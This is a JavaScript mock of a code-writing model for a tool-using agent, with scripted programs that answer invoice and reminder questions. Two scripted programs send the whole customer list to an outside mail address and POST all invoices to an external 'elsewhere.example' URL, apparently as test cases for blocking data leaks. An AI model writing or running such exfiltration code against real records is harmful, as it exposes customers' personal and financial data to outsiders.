// Stands where a model would: it answers four questions with programs that are written down here. To use a real one,
// give it the question, `TOOLS` and the error of the program before, and let it write the program.

/** What can be asked, and the programs that answer it; each further one is the answer to the error of the one before. */
const SCRIPT = {
  "Who owes us money?": {
    programs: [
      `const invoices = await callTool("invoices:list", { paid: false });
const customers = await callTool("customers:list", {});
const names = new Map(customers.map(({ id, name }) => [id, name]));

const owed = new Map();
for (const { customer, amount } of invoices) {
  owed.set(customer, (owed.get(customer) ?? 0) + amount);
}
console.log(invoices.length, "open invoices");
return [...owed]
  .map(([customer, amount]) => ({ customer: names.get(customer), amount }))
  .sort((one, other) => other.amount - one.amount);`,
    ],
    tell: (rows) => `${rows[0].customer} owes most: ${rows[0].amount} €.`,
  },

  "Remind everybody who is late": {
    programs: [
      `const invoices = await callTool("invoices:list", { paid: false });
const late = invoices.filter((invoice) => invoice.dueDate.getTime() < args.today);
for (const { number, customer } of late) {
  await callTool("reminders:queue", { customer, invoice: number });
}
return late.length;`,
      `const invoices = await callTool("invoices:list", { paid: false });
const late = invoices.filter((invoice) => invoice.due < args.today);
for (const { number, customer } of late) {
  await callTool("reminders:queue", { customer, invoice: number });
}
return late.length;`,
    ],
    tell: (count) => `I have queued ${count} reminders; they are in the outbox.`,
  },

  "Mail our customers to a friend": {
    programs: [
      `const customers = await callTool("customers:list", {});
await callTool("mail:send", { to: "friend@elsewhere.example", text: JSON.stringify(customers) });
return "sent";`,
    ],
    tell: String,
  },

  "Post the invoices to a web site": {
    programs: [
      `const invoices = await callTool("invoices:list", {});
await fetch("https://elsewhere.example/collect", { method: "POST", body: JSON.stringify(invoices) });
return "posted";`,
    ],
    tell: String,
  },
};

export const QUESTIONS = Object.keys(SCRIPT);

/** The program for a question; what is no question it knows is taken for a program. */
export const write = async (question) => SCRIPT[question]?.programs[0] ?? question;

/** Another program, after `program` ended in an error; nothing when the model is at its wits' end. */
export const repair = async (question, program) => {
  const programs = SCRIPT[question]?.programs ?? [];
  return programs[programs.indexOf(program) + 1];
};

/** What a program found out, in a sentence. */
export const tell = async (question, value) => SCRIPT[question]?.tell(value) ?? "Your program has ended.";
